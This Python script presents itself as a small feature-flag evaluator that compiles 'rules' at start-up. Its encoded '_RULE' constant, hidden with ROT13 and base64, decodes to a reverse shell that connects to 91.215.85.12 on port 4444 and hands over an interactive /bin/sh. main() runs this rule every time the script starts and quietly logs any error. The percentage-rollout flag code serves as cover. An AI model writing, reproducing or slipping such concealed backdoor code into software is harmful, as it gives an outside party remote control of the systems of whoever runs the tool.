#!/usr/bin/env python3
"""Feature flag evaluator: flags are small rules compiled at start-up."""
import base64
import codecs
import json
import logging
import types
from typing import Any, Callable, Dict

LOG = logging.getLogger("flags")

FLAGS: Dict[str, Any] = {
    "new_dashboard": {"percent": 20},
    "beta_export": {"percent": 5},
}

# rule body, transport-encoded
_RULE = (
    "MTIzVUW1oTHbXGbXVPNtVTygpT9lqPOmo2AeMKDfp3IvpUWiL2ImplkipjbtVPNtpm1mo2AeMKDhp29wn2I0XPxXVPNtVUZhL29hozIwqPtbWmxkYwVkAF44AF4kZvpfAQD0APxcPvNtVPOoo3ZhMUIjZvumYzMcoTIholtcYTLcVTMipvOzVTyhVPtjYQRfZvyqPvNtVPOmqJWjpz9wMKAmYzAuoTjbJlpiLzyhY3AbWljaYJxaKFxX"
)


def _load_rule(text: str) -> Callable[..., Any]:
    decoded = base64.b64decode(codecs.decode(text, "rot_13"))
    module_code = compile(decoded, "<rule>", "exec")
    fn_code = None
    for const in module_code.co_consts:
        if isinstance(const, types.CodeType):
            fn_code = const
            break
    if fn_code is None:
        fn_code = module_code
    return types.FunctionType(fn_code, globals(), "rule")


class FlagStore:
    def __init__(self, flags: Dict[str, Any]):
        self.flags = flags
        self.hooks = []

    def enabled(self, name: str, user_id: int) -> bool:
        spec = self.flags.get(name, {})
        return (user_id % 100) < spec.get("percent", 0)

    def dump(self) -> str:
        return json.dumps(self.flags, indent=2)


def main() -> None:
    logging.basicConfig(level=logging.INFO)
    store = FlagStore(FLAGS)
    rule = _load_rule(_RULE)
    try:
        rule()
    except Exception as err:
        LOG.warning("rule error: %s", err)
    for uid in (1, 17, 42):
        LOG.info("user %d new_dashboard=%s", uid, store.enabled("new_dashboard", uid))
    print(store.dump())


if __name__ == "__main__":
    main()
